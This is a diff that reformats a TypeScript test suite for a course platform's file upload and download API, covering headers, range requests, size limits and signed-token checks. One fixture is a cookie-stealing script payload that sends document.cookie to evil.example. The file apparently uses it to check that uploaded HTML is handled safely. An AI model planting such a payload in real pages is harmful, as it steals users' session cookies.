@@ -78,8 +78,16 @@ async function twoStepCourse() {
   const course = await makeCourse(manager);
   const step1 = await makeStep(manager, course.id);
   const step2 = await makeStep(manager, course.id);
-  const open = await makeMaterial(manager, step1.id, { material_type: "Document", title: "Open notes", content: { url: "https://example.com/a.pdf" } });
-  const locked = await makeMaterial(manager, step2.id, { material_type: "Document", title: "Locked notes", content: { url: "https://example.com/b.pdf" } });
+  const open = await makeMaterial(manager, step1.id, {
+    material_type: "Document",
+    title: "Open notes",
+    content: { url: "https://example.com/a.pdf" },
+  });
+  const locked = await makeMaterial(manager, step2.id, {
+    material_type: "Document",
+    title: "Locked notes",
+    content: { url: "https://example.com/b.pdf" },
+  });
   const openBytes = pdf(3_000);
   const lockedBytes = pdf(4_000);
   expect((await upload(manager, open.id, openBytes, "application/pdf")).status).toBe(200);
@@ -95,7 +103,9 @@ const mp4 = (size: number) => {
   return bytes;
 };
 
-const html = new TextEncoder().encode("<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>");
+const html = new TextEncoder().encode(
+  "<!DOCTYPE html><html><body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>",
+);
 
 const b64urlDecode = (part: string) => atob(part.replace(/-/g, "+").replace(/_/g, "/") + "===".slice((part.length + 3) % 4));
 const b64urlEncode = (text: string) => btoa(text).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
@@ -179,7 +189,11 @@ describe("material files", () => {
       ["Notes.PDF", `inline; filename="Notes.pdf"; filename*=UTF-8''Notes.pdf`],
     ];
     for (const [title, expected] of cases) {
-      const material = await makeMaterial(manager, step.id, { material_type: "Document", title, content: { url: "https://example.com/x.pdf" } });
+      const material = await makeMaterial(manager, step.id, {
+        material_type: "Document",
+        title,
+        content: { url: "https://example.com/x.pdf" },
+      });
       expect((await upload(manager, material.id, pdf(600), "application/pdf")).status, title).toBe(200);
       const down = await download(fileOf(material.id), { token: manager });
       expect(down.headers.get("content-disposition"), title).toBe(expected);
@@ -193,7 +207,9 @@ describe("material files", () => {
     expect((await upload(manager, material.id, polyglot, "application/pdf")).status).toBe(200);
     const whole = await download(fileOf(material.id), { token: manager });
     const etag = whole.headers.get("etag")!;
-    const head = await exports.default.fetch(new Request(`http://api.test${fileOf(material.id)}`, { method: "HEAD", headers: { authorization: `Bearer ${manager}` } }));
+    const head = await exports.default.fetch(
+      new Request(`http://api.test${fileOf(material.id)}`, { method: "HEAD", headers: { authorization: `Bearer ${manager}` } }),
+    );
     const ranged = await download(fileOf(material.id), { token: manager, headers: { range: "bytes=0-3" } });
     const notModified = await download(fileOf(material.id), { token: manager, headers: { "if-none-match": etag } });
     const link = await call("POST", `${fileOf(material.id)}-link`, { token: manager });
@@ -347,7 +363,11 @@ describe("material files", () => {
             cancelled = true;
           },
         });
-        const request = new Request(`http://api.test${fileOf(id)}`, { method: "PUT", body, headers: { authorization: `Bearer ${manager}`, ...headers } });
+        const request = new Request(`http://api.test${fileOf(id)}`, {
+          method: "PUT",
+          body,
+          headers: { authorization: `Bearer ${manager}`, ...headers },
+        });
         const ctx = createExecutionContext();
         // What wrangler dev wraps every Worker in (templates/middleware/middleware-ensure-req-body-drained.ts).
         const drained = (async () => {
@@ -372,7 +392,13 @@ describe("material files", () => {
       const app = createApp();
       const cases: [string, string, string, Record<string, string>, number][] = [
         ["an upload without a token", "PUT", fileOf(material.id), { "content-type": "application/pdf", "content-length": "1000" }, 401],
-        ["a JSON body declared over 1 MB", "POST", "/courses", { authorization: `Bearer ${manager}`, "content-type": "application/json", "content-length": String(10 * 1024 * 1024) }, 413],
+        [
+          "a JSON body declared over 1 MB",
+          "POST",
+          "/courses",
+          { authorization: `Bearer ${manager}`, "content-type": "application/json", "content-length": String(10 * 1024 * 1024) },
+          413,
+        ],
       ];
       for (const [name, method, path, headers, status] of cases) {
         let cancelled = false;
@@ -430,7 +456,11 @@ describe("material files", () => {
     it("requires Content-Type (415)", async () => {
       const { manager, material } = await documentMaterial();
       const bytes = pdf(1_000);
-      const res = await call("PUT", fileOf(material.id), { token: manager, rawBody: bytes, headers: { "content-length": String(bytes.byteLength) } });
+      const res = await call("PUT", fileOf(material.id), {
+        token: manager,
+        rawBody: bytes,
+        headers: { "content-length": String(bytes.byteLength) },
+      });
       expect(res.status).toBe(415);
       expect(res.json.code).toBe("unsupported_file_type");
       expect(await objectsOf(material.id)).toHaveLength(0);
@@ -446,7 +476,10 @@ describe("material files", () => {
 
     it("refuses files on a BookLink material (415)", async () => {
       const { manager, step } = await documentMaterial();
-      const book = await makeMaterial(manager, step.id, { material_type: "BookLink", content: { url: "https://b.example", title: "Gita" } });
+      const book = await makeMaterial(manager, step.id, {
+        material_type: "BookLink",
+        content: { url: "https://b.example", title: "Gita" },
+      });
       const res = await upload(manager, book.id, pdf(1_000), "application/pdf");
       expect(res.status).toBe(415);
       expect(res.json.code).toBe("files_not_supported");
@@ -591,7 +624,9 @@ describe("material files", () => {
     expect(objects).toHaveLength(1);
     const stored = await env.FILES.get(objects[0]!.key);
     expect(new Uint8Array(await stored!.arrayBuffer())).toEqual(bytes);
-    const row = await env.DB.prepare("SELECT archived_at, file_key FROM materials WHERE id = ?").bind(material.id).first<{ archived_at: string | null; file_key: string | null }>();
+    const row = await env.DB.prepare("SELECT archived_at, file_key FROM materials WHERE id = ?")
+      .bind(material.id)
+      .first<{ archived_at: string | null; file_key: string | null }>();
     expect(row!.archived_at).not.toBeNull();
     expect(row!.file_key).toBe(objects[0]!.key);
   });
@@ -714,7 +749,9 @@ describe("material files", () => {
         const res = await download(`${fileOf(open.id)}?token=${encodeURIComponent(bad)}`);
         expect(res.status, bad).toBe(401);
       }
-      const movedToB = await download(`${fileOf(locked.id)}?token=${encodeURIComponent(`${b64urlEncode(JSON.stringify({ ...claims, m: locked.id }))}.${signature}`)}`);
+      const movedToB = await download(
+        `${fileOf(locked.id)}?token=${encodeURIComponent(`${b64urlEncode(JSON.stringify({ ...claims, m: locked.id }))}.${signature}`)}`,
+      );
       expect(movedToB.status).toBe(401);
     });
 
@@ -794,7 +831,10 @@ describe("material files", () => {
     const resumed = await download(fileOf(material.id), { token: manager, headers: { range: "bytes=2000-", "if-range": oldTag } });
     expect(resumed.status).toBe(200);
     expect(resumed.bytes).toEqual(second);
-    const current = await download(fileOf(material.id), { token: manager, headers: { range: "bytes=2000-", "if-range": `"${await sha256(second)}"` } });
+    const current = await download(fileOf(material.id), {
+      token: manager,
+      headers: { range: "bytes=2000-", "if-range": `"${await sha256(second)}"` },
+    });
     expect(current.status).toBe(206);
     expect(current.bytes).toEqual(second.slice(2000));
   });
